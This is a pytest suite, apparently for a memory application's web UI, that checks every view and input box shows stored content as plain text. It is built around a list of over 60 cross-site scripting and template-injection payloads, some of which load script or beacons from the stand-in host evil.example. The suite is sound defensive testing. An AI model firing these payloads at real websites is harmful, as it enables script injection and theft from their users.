"""Whatever a memory says is text: nothing in it runs, is fetched, or becomes a part of the page, in any view."""

from __future__ import annotations

import re
from urllib.parse import quote

import pytest

# Each would set `window.pwned`, open a dialog, fetch something or leave an element behind, if it were taken for more than text.
HOSTILE = [
    "<script>window.pwned=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=//evil.example/beacon.png>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'></svg>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<a href=javascript:window.pwned=1>press</a>",
    "<a href='java\tscript:window.pwned=1'>press</a>",
    "<form action=//evil.example><input type=submit></form>",
    "<button formaction=javascript:window.pwned=1>go</button>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1>",
    "<textarea autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<x style='background:url(//evil.example/x)'>",
    "<div style=animation-name:x onanimationstart=window.pwned=1>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "'\"><script>window.pwned=1</script>",
    "\" onmouseover=window.pwned=1 x=\"",
    "' autofocus onfocus=window.pwned=1 x='",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "#{window.pwned=1}",
    "<%= window.pwned=1 %>",
    "{a|window.pwned=1}{b|bold}",
    "${a}\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.pwned=1\\x3c/script\\x3e",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "＜script＞window.pwned=1＜/script＞",
    "\u202e<script>window.pwned=1</script>\u202c",
    "<scr\u0131pt>window.pwned=1</script>",
    "<ScRiPt >window.pwned=1</sCrIpT>",
    "<<script>window.pwned=1//<</script>",
    "__proto__",
    "constructor",
    "celestial\n<img src=x onerror=window.pwned=1>\n-- ",
    "<!-- celestial:island --><script>window.pwned=1</script>",
    "![x](//evil.example/x.png) [press](javascript:window.pwned=1)",
]  # fmt: skip
# What none of the pages ever makes by itself.
LEFT_BEHIND = """() => [...document.querySelectorAll("script:not([src]), iframe, object, embed, img, video, audio, marquee,"
  + " math, base, template, style, form[action], [onerror], [onload], [onfocus], [onmouseover], [ontoggle], a[href^=javascript]")]
  .filter((each) => !(each.tagName === "STYLE" && each.closest("head"))).map((each) => each.outerHTML.slice(0, 120))"""
PARTS = 4
LONGEST_NAME = 40


@pytest.fixture(scope="module")
def hostile(life) -> list[str]:
    """A memory of each, with the next ones as its tag, project, conversation and metadata; and a self made of them."""
    ids = []
    for at, text in enumerate(HOSTILE):
        after = [HOSTILE[(at + step) % len(HOSTILE)] for step in range(1, 5)]
        told = {"tags": [after[0][:60]], "project": after[1][:60], "session_id": after[2][:60].replace("\n", " ")}
        ids.append(life.remember(text, metadata={after[3]: text}, importance=0.9, tier="M365", **told))
    for forgotten in ids[1::9]:
        life.ask("DELETE", f"/memories/{forgotten}")
    with life.served.memory() as memory:

        def approved(proposal) -> None:
            memory.self.approve(proposal.id, memory.self.approval_token(proposal.id), by=HOSTILE[2], channel="cli")

        kept = [ids[0], ids[2], ids[4]]
        for each in kept:
            approved(memory.self.propose.core(each, by=HOSTILE[2]))
        approved(memory.self.propose.island(HOSTILE[2][:60], kept, emoji="", description=HOSTILE[0], by=HOSTILE[2]))
        island = memory.self.islands()[-1].id
        approved(memory.self.propose.belief(HOSTILE[5], kept, island=island, by=HOSTILE[4]))
        memory.self.propose.core(ids[6], by=HOSTILE[2])
        memory.self.propose.core_change(ids[0], HOSTILE[3], by=HOSTILE[0])
        memory.access.grant(HOSTILE[2])
    return ids


@pytest.fixture(scope="module")
def tied(life, hostile) -> list[str]:
    """Everybody and everything is called like that, is tied to the next one, and was said in a conversation of that name."""
    names = [text for text in HOSTILE if len(text) <= LONGEST_NAME and "\n" not in text]
    with life.served.memory() as memory:
        record = memory.get(hostile[3]).to_dict()
        for at, name in enumerate(names):
            ties = [[name, HOSTILE[at], names[(at + 1) % len(names)]], ["user", "knows", name]]
            told = {"subject": "person", "attribute": "home", "value": HOSTILE[-at]}
            memory.transfer.import_([
                {**record, "id": f"tied-{at}", "content": f"{name} {at}", "resolution": {"gist": name, "triples": ties}, "address": told}
            ])  # fmt: skip
        for text in HOSTILE:
            memory.observe(f"Please remember this: my motto is {text}", session_id=text[:60].replace("\n", " "))
    return names


def assert_inert(look) -> None:
    assert look.page.evaluate("[window.pwned ?? null, Object.prototype.pwned ?? null]") == [None, None]
    assert look.page.evaluate(LEFT_BEHIND) == []
    look.check()


def test_there_are_many():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


def test_whoever_ran_one_would_be_caught(life, visit):
    """Were a text taken for HTML, the policy would refuse it, and the watch would tell: these tests can fail."""
    look = visit(life.served, "orbits")
    look.watch.expects("status of 404")  # of a picture that is put into the page here; it may come late
    for text in (HOSTILE[2], HOSTILE[3], HOSTILE[31]):
        look.page.evaluate("text => document.querySelector('main').insertAdjacentHTML('beforeend', text)", text)
    look.page.wait_for_function("window.__violations.length >= 3")
    assert len(look.page.evaluate(LEFT_BEHIND)) == 2
    with pytest.raises(AssertionError, match="evil"):
        look.check()
    look.watch.complaints.clear()
    look.page.evaluate("window.__violations = []")


@pytest.mark.parametrize(
    "place",
    [
        "today", "memories", "memories?text=script", "people", "people/relations", "people/user", "conversations",
        "orbits", "ask?q=script", "ask?q=window.pwned&project=x", "cliff", "approvals", "self", "self/cores", "self/soul",
        "self/imagination", "insight", "insight/learning", "insight/sleep", "insight/ledger", "settings", "settings/access", "settings/engine",
        "settings/options", "settings/data", "federation", "self/islands", "insight/system", "personas",
    ],
)  # fmt: skip
def test_every_view_shows_it_as_text(life, hostile, visit, place):
    look = visit(life.served, place)
    assert_inert(look)
    if place == "orbits":
        look.get("orbits-list").click()
        while (more := look.get("orbits-roster").get_by_role("button", name=re.compile("more"))).count():
            more.first.click()
        assert "<svg onload=window.pwned=1>" in look.get("orbits-roster").text_content()
    if place == "cliff":
        assert HOSTILE[1] in look.get("cliff-list").text_content()
    if place == "self":
        assert "window.pwned=1" in look.get("beliefs").text_content()
    for opened in ("island", "inbox-item", "soul-version"):
        for at in range(min(4, look.get(opened).count())):
            look.get(opened).nth(at).click()
    assert_inert(look)


def test_conversations_of_such_names_are_text(life, tied, visit, expect):
    look = visit(life.served, "conversations")
    expect(look.get("talk").filter(has_text="<svg onload=window.pwned=1>").first).to_be_visible()
    for at in range(0, look.get("talk").count(), 9):
        look.get("talk").nth(at).click()
        assert_inert(look)


def test_every_box_takes_it_as_text(life, tied, visit, expect):
    """Each of them typed into the filter, the search for people, the palette, a new memory and the editor of SOUL.md."""
    look = visit(life.served, "memories")
    for text in HOSTILE:
        look.get("filter-box").fill(text)
        expect(look.get("filter-item").first).to_be_visible()
    look.get("filter-item").filter(has_text="Text contains").click()
    expect(look.get("chip-text")).to_be_visible()
    assert_inert(look)
    look.move("people")
    for text in HOSTILE:
        look.get("people-search").fill(text)
    assert_inert(look)
    look.page.keyboard.press("Control+k")
    for text in HOSTILE:
        look.get("palette-box").fill(text)
    assert_inert(look)
    look.page.keyboard.press("Escape")
    look.move("today")
    for text in HOSTILE:
        look.get("remember-text").first.fill(text)
    look.get("remember-save").first.click()
    expect(look.get("remember-text").first).to_have_value("")
    assert_inert(look)
    look.move("self/soul")
    look.get("soul-edit").click()
    for text in HOSTILE:
        look.get("soul-text").fill(f"# SOUL\n\n{text}")
        expect(look.get("soul-diff")).to_be_visible()
    assert_inert(look)
    look.get("soul-cancel").click()
    look.page.get_by_role("button", name="Discard").click()


@pytest.mark.parametrize("part", range(PARTS))
def test_every_memory_shows_itself_as_text(life, hostile, visit, part):
    """Its page: text, facts, coordinate, ties and history. It stands there word for word."""
    look = visit(life.served, None)
    for at in range(part, len(HOSTILE), PARTS):
        if at == part:
            look.go(f"memory/{hostile[at]}")
        else:
            look.move(f"memory/{hostile[at]}")
            look.page.locator("main code", has_text=hostile[at]).first.wait_for()
        assert (
            look.get("section-text").locator(".memory-whole").text_content()
            == life.ask("GET", f"/memories/{hostile[at]}")["content"]
        )
    assert_inert(look)


@pytest.mark.parametrize("part", range(PARTS))
def test_addresses_and_questions_are_text_too(life, visit, part):
    """Whatever a link says: a question, the id of something, or nonsense."""
    look = visit(life.served, "orbits")
    look.watch.expects("status of 4")
    for text in HOSTILE[part::PARTS]:
        for place in (f"ask?q={quote(text)}", f"memory/{quote(text, safe='')}"):
            look.move(place)
        look.page.evaluate("text => { location.hash = text; }", text)
        look.settled()
    assert_inert(look)


def test_what_is_typed_is_text_too(life, visit, expect):
    """The search box, an edit, and the name of a token."""
    look = visit(life.served, "orbits")
    for text in HOSTILE[:6]:
        look.page.get_by_role("searchbox").fill(text)
        expect(look.get("orbits-hits")).to_contain_text(text)
    mine = life.remember("Soon something else.")
    look.move(f"memory/{mine}")
    look.get("memory-edit").click()
    look.get("edit-text").fill(HOSTILE[2])
    look.get("edit-save").click()
    expect(look.get("section-text").locator(".memory-whole")).to_have_text(HOSTILE[2])
    assert_inert(look)


def test_nothing_of_the_key_is_repeated(life, visit):
    look = visit(life.served, None, signed_in=False)
    look.watch.expects("status of 4")
    for text in HOSTILE[:12]:
        look.page.goto(f"{life.served.url}/login?key={quote(text)}")
    assert_inert(look)


def test_people_and_things_of_such_names_are_text(life, tied, visit, expect):
    """The directory, the page of everybody in it, and the graph of their ties."""
    look = visit(life.served, "people")
    expect(look.page.locator("main")).to_contain_text("<svg onload=window.pwned=1>")
    assert_inert(look)
    pages = look.page.eval_on_selector_all("main a[href^='#/people/']", "links => links.map((each) => each.hash)")
    assert any("svg" in page for page in pages)
    for page in [page for page in pages if "pwned" in page][::4]:
        look.page.evaluate("hash => { location.hash = hash }", page)
        expect(look.page.locator("main")).to_contain_text("pwned")
        assert_inert(look)
